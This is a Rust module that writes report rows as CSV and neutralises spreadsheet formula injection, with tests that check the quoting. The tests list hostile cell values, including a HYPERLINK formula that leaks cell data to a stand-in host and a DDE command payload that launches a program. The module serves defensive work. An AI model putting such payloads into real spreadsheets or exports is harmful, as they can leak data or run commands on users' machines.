//! CSV for flat report rows, written from each row's serde (JSON) form so the two can't disagree:
//! numbers in the same shortest round-trip notation, `null` as an empty field, RFC 4180 quoting.
//!
//! Every text cell is neutralised against formula injection as OWASP's "CSV Injection" page
//! advises: a text that begins with `=`, `+`, `-`, `@`, a tab or a carriage return (which Excel,
//! LibreOffice and Sheets may run as a formula: `=HYPERLINK(...)`, `+cmd|...`, `-1+1`, `@SUM(1)`)
//! is written with a single quote in front and inside double quotes, so a spreadsheet shows it as
//! text. Which cells are text is decided by the column's type, not by looking at the value: a
//! field that serialises as a JSON number (a count, a rate, a difference of minutes, which can be
//! negative) is data and is written as a bare number, so `-5` stays a number a sum can use; a
//! field that serialises as a JSON string (a name, a commissioner, a period) is text, and a name
//! typed as `-5` is neutralised like any other.
//!
//! A number in a column whose name ends in `_pct` is a percentage and is written to one decimal
//! place (`33.3`, `100.0`), as people read it; the JSON keeps the exact value. Other numbers are
//! written exactly (shortest round-trip).
//!
//! [`json_rows_csv`] writes rows given as JSON objects with their columns: the server uses it to
//! write report rows with names beside their ids (names are presentation, resolved at the
//! server's edge, never here).

use serde::Serialize;
use serde_json::Value;

/// A flat row type with its CSV column order (every field of its JSON form, once).
pub trait CsvRow: Serialize {
    const COLUMNS: &'static [&'static str];
}

/// Header line then one line per row, `\r\n`-terminated (RFC 4180).
pub fn to_csv<T: CsvRow>(rows: &[T]) -> Result<String, serde_json::Error> {
    let values = rows
        .iter()
        .map(serde_json::to_value)
        .collect::<Result<Vec<_>, _>>()?;
    Ok(json_rows_csv(T::COLUMNS, &values))
}

/// Header line then one line per row, each row a JSON object read column by column (a missing
/// field is an empty cell). The same cells as [`to_csv`]: neutralised text, percentages to one
/// decimal, other numbers exact.
pub fn json_rows_csv<C: AsRef<str>>(columns: &[C], rows: &[Value]) -> String {
    let mut out = String::new();
    push_line(&mut out, columns.iter().map(|c| c.as_ref().to_string()));
    for row in rows {
        push_line(
            &mut out,
            columns.iter().map(|c| cell(c.as_ref(), row.get(c.as_ref()))),
        );
    }
    out
}

/// A column of percentages, written to one decimal.
fn is_percentage(column: &str) -> bool {
    column.ends_with("_pct")
}

/// One field's cell, before RFC 4180 quoting.
fn cell(column: &str, value: Option<&Value>) -> String {
    match value {
        None | Some(Value::Null) => String::new(),
        Some(Value::String(s)) => text_cell(s),
        Some(Value::Number(n)) if is_percentage(column) => {
            n.as_f64().map_or_else(|| n.to_string(), one_decimal)
        }
        Some(other) => other.to_string(),
    }
}

/// `33.3`, `100.0`, `0.0`: the rounding the dashboard shows (`{:.1}`).
pub fn one_decimal(value: f64) -> String {
    format!("{value:.1}")
}

/// The characters that make a spreadsheet read a cell as a formula (OWASP).
const FORMULA_STARTS: &[char] = &['=', '+', '-', '@', '\t', '\r'];

/// A text cell's content, with a leading single quote if it would otherwise start a formula.
/// (The quoting that keeps it one field is [`push_line`]'s: a cell starting with `'` is always
/// quoted.)
pub fn text_cell(text: &str) -> String {
    if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_string()
    }
}

/// A text cell ready to join with commas: neutralised ([`text_cell`]) and quoted where needed.
pub fn text_field(text: &str) -> String {
    let mut out = String::new();
    push_field(&mut out, &text_cell(text));
    out
}

fn push_field(out: &mut String, field: &str) {
    // A neutralised cell is quoted too (OWASP), whether or not it has a comma or a quote.
    if field.contains([',', '"', '\n', '\r']) || field.starts_with('\'') {
        out.push('"');
        out.push_str(&field.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(field);
    }
}

fn push_line(out: &mut String, fields: impl Iterator<Item = String>) {
    for (n, field) in fields.enumerate() {
        if n > 0 {
            out.push(',');
        }
        push_field(out, &field);
    }
    out.push_str("\r\n");
}

/// Parses what [`to_csv`] writes (tests read reports back with it).
#[cfg(test)]
pub fn parse(text: &str) -> Vec<Vec<String>> {
    let mut lines = Vec::new();
    let mut line = Vec::new();
    let mut field = String::new();
    let mut quoted = false;
    let mut chars = text.chars().peekable();
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') => quoted = true,
            (false, ',') => line.push(std::mem::take(&mut field)),
            (false, '\r') => {}
            (false, '\n') => {
                line.push(std::mem::take(&mut field));
                lines.push(std::mem::take(&mut line));
            }
            (false, c) => field.push(c),
        }
    }
    lines
}

/// Checks a CSV text against the JSON form of the same rows, field by field: numbers compare as
/// numbers, `null` as an empty field. Panics with the first difference (test helper).
#[cfg(test)]
pub fn assert_csv_matches_json<T: CsvRow>(csv_text: &str, rows: &[T]) {
    let parsed = parse(csv_text);
    assert_eq!(parsed.len(), rows.len() + 1, "header plus one line per row");
    assert_eq!(
        parsed[0],
        T::COLUMNS.iter().map(|c| c.to_string()).collect::<Vec<_>>()
    );
    for (line, row) in parsed[1..].iter().zip(rows) {
        let json = serde_json::to_value(row).expect("row serialises");
        let object = json.as_object().expect("row is a JSON object");
        let mut keys: Vec<&String> = object.keys().collect();
        keys.sort();
        let mut columns: Vec<&str> = T::COLUMNS.to_vec();
        columns.sort();
        assert_eq!(keys, columns, "CSV columns are exactly the JSON fields");
        for (column, field) in T::COLUMNS.iter().zip(line) {
            match &object[*column] {
                Value::Null => assert_eq!(field, "", "{column}"),
                Value::String(s) => assert_eq!(field, &text_cell(s), "{column}"),
                Value::Bool(b) => assert_eq!(field.parse::<bool>().ok(), Some(*b), "{column}"),
                Value::Number(n) if is_percentage(column) => {
                    // A percentage is the JSON value to one decimal, as the dashboard shows it.
                    let exact = n.as_f64().unwrap_or(f64::NAN);
                    assert_eq!(field, &one_decimal(exact), "{column}: {field} from {exact}");
                }
                Value::Number(n) => {
                    let parsed: f64 = field.parse().unwrap_or(f64::NAN);
                    assert_eq!(Some(parsed), n.as_f64(), "{column}: {field}");
                }
                other => panic!("{column} is not flat: {other}"),
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[derive(Serialize)]
    struct Row {
        name: String,
        rate: Option<f64>,
        count: u64,
    }

    impl CsvRow for Row {
        const COLUMNS: &'static [&'static str] = &["name", "count", "rate"];
    }

    #[test]
    fn quoting_and_empty_fields() -> Result<(), serde_json::Error> {
        let rows = vec![
            Row {
                name: "Borough of \"North\", East".into(),
                rate: Some(100.0 / 3.0),
                count: 3,
            },
            Row {
                name: "line\nbreak".into(),
                rate: None,
                count: 0,
            },
        ];
        let text = to_csv(&rows)?;
        assert!(
            text.starts_with("name,count,rate\r\n\"Borough of \"\"North\"\", East\",3,33.3"),
            "{text}"
        );
        let parsed = parse(&text);
        assert_eq!(parsed[1][0], "Borough of \"North\", East");
        assert_eq!(parsed[2], vec!["line\nbreak", "0", ""]);
        assert_eq!(parsed[1][2].parse::<f64>().ok(), Some(100.0 / 3.0));
        assert_csv_matches_json(&text, &rows);
        Ok(())
    }

    #[derive(Serialize)]
    struct Rated {
        group: String,
        late_pct: Option<f64>,
        max_late_pct: f64,
        late: u64,
    }

    impl CsvRow for Rated {
        const COLUMNS: &'static [&'static str] = &["group", "late", "late_pct", "max_late_pct"];
    }

    #[test]
    fn percentages_are_written_to_one_decimal_and_counts_exactly() -> Result<(), serde_json::Error> {
        let rows = vec![
            Rated {
                group: "North".into(),
                late_pct: Some(100.0 / 3.0),
                max_late_pct: 10.0,
                late: 1,
            },
            Rated {
                group: "South".into(),
                late_pct: None,
                max_late_pct: 2.25,
                late: 0,
            },
            Rated {
                group: "East".into(),
                late_pct: Some(200.0 / 3.0),
                max_late_pct: 100.0,
                late: 2,
            },
        ];
        let text = to_csv(&rows)?;
        assert_eq!(
            text,
            "group,late,late_pct,max_late_pct\r\nNorth,1,33.3,10.0\r\nSouth,0,,2.2\r\nEast,2,66.7,100.0\r\n"
        );
        for line in parse(&text).iter().skip(1) {
            for field in &line[2..] {
                let decimals = field.split_once('.').map_or(0, |(_, d)| d.len());
                assert!(decimals <= 1, "{field}");
            }
        }
        assert_csv_matches_json(&text, &rows);
        // Rows given as JSON objects (the server's rows with names): the same cells, and a
        // column the row lacks is empty.
        let values: Vec<Value> = rows.iter().map(serde_json::to_value).collect::<Result<_, _>>()?;
        let columns = ["group", "group_name", "late", "late_pct", "max_late_pct"];
        assert_eq!(
            json_rows_csv(&columns, &values[..1]),
            "group,group_name,late,late_pct,max_late_pct\r\nNorth,,1,33.3,10.0\r\n"
        );
        Ok(())
    }

    #[test]
    fn text_that_would_start_a_formula_is_quoted_text_and_numbers_stay_numbers(
    ) -> Result<(), serde_json::Error> {
        let hostile = [
            "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-1+1",
            "@SUM(1)",
            "\t=1+2",
            "\r=1+2",
            "-5",
        ];
        let rows: Vec<Row> = hostile
            .iter()
            .map(|name| Row {
                name: name.to_string(),
                rate: Some(-2.5),
                count: 7,
            })
            .collect();
        let text = to_csv(&rows)?;
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines.len(), hostile.len() + 2, "header, rows, and the empty tail");
        for line in &lines[1..=hostile.len()] {
            // The raw line: the cell opens with a double quote then a single quote, so no
            // spreadsheet sees a formula, and the numbers after it are bare.
            assert!(line.starts_with("\"'"), "{line:?}");
            assert!(line.ends_with(",7,-2.5"), "{line:?}");
            assert!(!line.starts_with(FORMULA_STARTS), "{line:?}");
        }
        let parsed = parse(&text);
        for (name, fields) in hostile.iter().zip(&parsed[1..]) {
            assert_eq!(fields[0], format!("'{name}"));
            assert_eq!(fields[2].parse::<f64>().ok(), Some(-2.5));
        }
        // Harmless text is written as before.
        assert_eq!(text_cell("North Borough"), "North Borough");
        assert_eq!(text_cell("2026-W05"), "2026-W05");
        assert_csv_matches_json(&text, &rows);
        Ok(())
    }
}
